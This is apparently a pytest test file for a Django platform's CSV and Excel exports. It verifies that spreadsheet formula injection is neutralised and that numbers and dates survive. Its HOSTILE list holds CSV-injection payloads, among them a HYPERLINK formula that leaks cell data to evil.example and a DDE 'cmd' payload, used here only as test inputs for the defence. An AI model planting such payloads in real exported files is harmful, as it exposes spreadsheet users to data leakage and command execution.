"""Every CSV/Excel export is safe: hostile text in every exported field is written as text (never
a formula), control characters do not break the file, numbers stay numbers; the catalog template
still round-trips. The files are opened with openpyxl / csv as a spreadsheet user would."""

import csv
import datetime
import io
import types
from decimal import Decimal

import pytest
from django.db import connection, models
from django.urls import reverse
from openpyxl import load_workbook

from tests.helpers import export_file
from tests.reforms.conftest import FIXTURES
from yingshang.platform import exports

HOSTILE = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"点此")',
    "+1+1",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    # PostgreSQL cannot store NUL at all (the API refuses it): the other control characters
    # illegal in XML still are
    ("\x00" if connection.vendor == "sqlite" else "\x01") + "\x07控制\x1b字符",
    "\t=1",
    "\r=2",
    "'=3",
]
TRIGGERS = ("=", "+", "-", "@", "\t", "\r")


def assert_safe_workbook(content: bytes) -> list:
    """No formula anywhere, no text that a spreadsheet would run; returns every value."""
    values = []
    wb = load_workbook(io.BytesIO(content))
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (ws.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str):
                    assert not cell.value.startswith(TRIGGERS), (ws.title, cell.coordinate)
                    assert "\x00" not in cell.value and "\x07" not in cell.value
                values.append(cell.value)
    return values


def assert_all_hostile_neutralised(values, hostile=HOSTILE):
    texts = [v for v in values if isinstance(v, str)]
    for h in hostile:
        expected = exports.safe_text(h)
        assert any(expected in t for t in texts), (h, expected)


def hostile_text_fields(model, *, exclude=()):
    """The free-text fields of ``model`` (no choices, no keys)."""
    return [
        f
        for f in model._meta.concrete_fields
        if isinstance(f, (models.CharField, models.TextField))
        and not f.choices
        and not f.primary_key
        and f.name not in exclude
    ]


def make_hostile(obj, *, exclude=()):
    """Write hostile text into every free-text field of ``obj`` (bypassing the services, as a
    compromised import or an old row would); returns the values written."""
    written = {}
    for i, f in enumerate(hostile_text_fields(type(obj), exclude=exclude)):
        value = HOSTILE[i % len(HOSTILE)][: f.max_length or None]
        written[f.name] = value
    type(obj).objects.filter(pk=obj.pk).update(**written)
    return written


# ----------------------------------------------------------------------- the helper itself


@pytest.mark.parametrize(
    "value,expected",
    [
        ("=1+1", "'=1+1"),
        ("+1", "'+1"),
        ("-1", "'-1"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("'=1", "''=1"),
        ("'plain", "''plain"),
        ("a\x00b\x07c", "a\ufffdb\ufffdc"),
        ("正常文字 = 1", "正常文字 = 1"),
        ("", ""),
        (-5, -5),
        (-2.5, -2.5),
        (Decimal("-1.10"), Decimal("-1.10")),
        (0, 0),
        (True, True),
        (None, None),
        (datetime.date(2026, 1, 2), datetime.date(2026, 1, 2)),
    ],
)
def test_safe_cell(value, expected):
    assert exports.safe_cell(value) == expected
    if isinstance(value, str) and "\x00" not in value:
        assert exports.unescape(exports.safe_cell(value)) == value


def test_xlsx_numbers_stay_numbers_and_hostile_text_is_text():
    rows = [[h, -3, 2.5, datetime.datetime(2026, 1, 2, 3, 4)] for h in HOSTILE]
    content = exports.xlsx_bytes("a/b:c*d?[e]" + "长" * 40, ["=head", "-n"], rows)
    wb = load_workbook(io.BytesIO(content))
    ws = wb.active
    assert ws.title == "a_b_c_d__e_" + "长" * 20
    values = assert_safe_workbook(content)
    assert_all_hostile_neutralised(values)
    data = list(ws.iter_rows(values_only=True))
    assert data[0][:2] == ("'=head", "'-n")
    assert all(r[1] == -3 and isinstance(r[1], int) for r in data[1:])
    assert all(r[2] == 2.5 for r in data[1:])
    assert data[1][3] == datetime.datetime(2026, 1, 2, 3, 4)


def test_csv_is_neutralised_and_readable():
    response = exports.csv_response(
        "x.csv", ["名称", "数"], [[h, -1] for h in HOSTILE] + [[None, 0]]
    )
    assert response["Content-Type"].startswith("text/csv")
    assert response["Content-Disposition"] == 'attachment; filename="x.csv"'
    text = response.content.decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(text, newline="")))
    assert rows[0] == ["名称", "数"]
    for h, row in zip(HOSTILE, rows[1:], strict=False):
        assert row[0] == exports.safe_text(h)
        assert not row[0].startswith(TRIGGERS)
        assert row[1] == "-1"  # a number, unquoted
    assert rows[-1] == ["", "0"]


# ----------------------------------------------------------------------- every export


def test_cases_export(client, submitted, staff):
    from yingshang.cases.models import Case

    written = make_hostile(submitted, exclude={"number"})
    make_hostile(submitted.department, exclude={"function_key", "code", "path"})
    assert {"title", "applicant_name"} <= written.keys()
    client.force_login(staff["chuangkou"])
    response = export_file(client, "cases.queue")
    assert response.status_code == 200
    values = assert_safe_workbook(response.content)
    case = Case.objects.select_related("department").get(pk=submitted.pk)
    for v in (case.title, case.applicant_name, case.department.name):
        assert exports.safe_text(v) in values
    assert any(isinstance(v, datetime.datetime) for v in values)  # dates stay dates


def test_audit_export(client, staff):
    from yingshang.platform.models import AuditAction, AuditEntry

    AuditEntry.objects.create(
        actor=staff["admin"],
        actor_name=HOSTILE[0][:150],
        channel=HOSTILE[5],
        action=AuditAction.UPDATE,
        object_type=HOSTILE[1],
        object_id=HOSTILE[2],
        object_repr=HOSTILE[4],
        changes={"name": [HOSTILE[3], HOSTILE[6]]},
        division_path="",
    )
    AuditEntry.objects.create(
        actor=staff["admin"], action=AuditAction.UPDATE, object_repr=HOSTILE[7], changes=HOSTILE[3]
    )
    client.force_login(staff["admin"])
    response = export_file(client, "core.audit")
    assert response.status_code == 200
    values = assert_safe_workbook(response.content)
    assert_all_hostile_neutralised(values, HOSTILE[:6] + HOSTILE[7:])


@pytest.fixture
def hostile_programme(programme, dept):
    from yingshang.reforms import services
    from yingshang.reforms.models import Measure, Task
    from yingshang.reforms.parsing import parse_file

    services.import_tasks(
        programme, parse_file(FIXTURES / "style_a_fangan.txt", year=2019), accept_fuzzy=True
    )
    from yingshang.core.models import Department

    tasks = Task.objects.filter(programme=programme)
    for task in tasks:
        make_hostile(task, exclude={"number"})
    units = Department.objects.filter(reform_tasks_led__programme=programme).distinct()
    for i, unit in enumerate(units):
        Department.objects.filter(pk=unit.pk).update(name=f"{HOSTILE[i % 4]}{unit.pk}")
    for measure in Measure.objects.filter(programme=programme):
        make_hostile(measure)
    return programme


def test_reforms_schedule_and_task_book_exports(hostile_programme, staff, login, dept):
    from yingshang.reforms.models import Task

    client = login(staff["jianduyuan"])
    response = client.get(
        reverse("reforms:schedule", args=[hostile_programme.pk]), {"format": "xlsx"}
    )
    assert response.status_code == 200
    values = assert_safe_workbook(response.content)
    task = Task.objects.filter(programme=hostile_programme).first()
    for f in ("content", "leader_name", "deadline_text"):
        if getattr(task, f):
            assert any(exports.safe_text(getattr(task, f)) in str(v) for v in values), f
    assert exports.safe_text(HOSTILE[0]) in " ".join(str(v) for v in values)  # a unit
    rows = list(load_workbook(io.BytesIO(response.content)).active.iter_rows(values_only=True))
    assert rows[0][8] == "进度（%）"
    assert all(isinstance(r[8], (int, float)) for r in rows[1:])  # progress stays a number
    unit = task.lead_units.first()
    response = client.get(
        reverse("reforms:book", args=[hostile_programme.pk, unit.pk]), {"format": "xlsx"}
    )
    assert response.status_code == 200
    wb = load_workbook(io.BytesIO(response.content))
    assert wb.active.title == exports.sheet_title(unit.name)
    assert_safe_workbook(response.content)


def test_monitoring_report_excel(tmp_path):
    from yingshang.monitoring import reports

    card = {
        "name": HOSTILE[0],
        "label": HOSTILE[0],  # the plain name the report prints (monitoring/labels.py)
        "key": HOSTILE[1],
        "value": -1.5,
        "unit": HOSTILE[2],
        "unit_label": HOSTILE[2],
        "score": 80,
        "gap_to_frontier": -20,
        "previous": None,
        "numerator": 3,
        "denominator": 4,
    }
    info = {
        "city": types.SimpleNamespace(name=HOSTILE[3]),
        "label": HOSTILE[4],
        "data": {
            "cards": [card, {**card, "value": None, "name": HOSTILE[7], "label": HOSTILE[7]}],
            "counties": [{"name": HOSTILE[5], "value": 50}, {"name": HOSTILE[6], "value": -1}],
            "trend": [{"period": HOSTILE[2], "value": 1}],
        },
        "supervision": {
            "columns": [HOSTILE[0], HOSTILE[1]],
            "departments": [
                {
                    "department": types.SimpleNamespace(name=HOSTILE[4]),
                    "counts": [1, -2],
                    "total": -1,
                    "flags": [HOSTILE[3], HOSTILE[5]],
                }
            ],
        },
    }
    path = reports.write_excel(info, tmp_path / "r.xlsx")
    values = assert_safe_workbook(path.read_bytes())
    assert_all_hostile_neutralised(values)
    assert -1.5 in values and -20 in values and -2 in values


def test_catalog_export_is_safe_and_still_round_trips(items, client, staff):
    from yingshang.catalog import excel
    from yingshang.catalog.models import Material, ServiceItem, ServiceItemVersion

    for item in ServiceItem.objects.all():
        make_hostile(item, exclude={"implementation_code", "basic_code"})
    for version in ServiceItemVersion.objects.all():
        make_hostile(version)
    for material in Material.objects.all():
        make_hostile(material)

    def snapshot():
        return (
            list(ServiceItem.objects.order_by("pk").values()),
            list(ServiceItemVersion.objects.order_by("pk").values()),
            list(Material.objects.order_by("pk").values()),
        )

    client.force_login(staff["admin"])
    response = client.get(reverse("catalog:staff-export"))
    assert response.status_code == 200
    values = assert_safe_workbook(response.content)
    assert exports.safe_text(HOSTILE[0]) in values and "'+1+1" in values
    before = snapshot()
    result = excel.import_workbook(response.content)
    assert result.new_versions == 0 and result.created == 0
    assert snapshot() == before
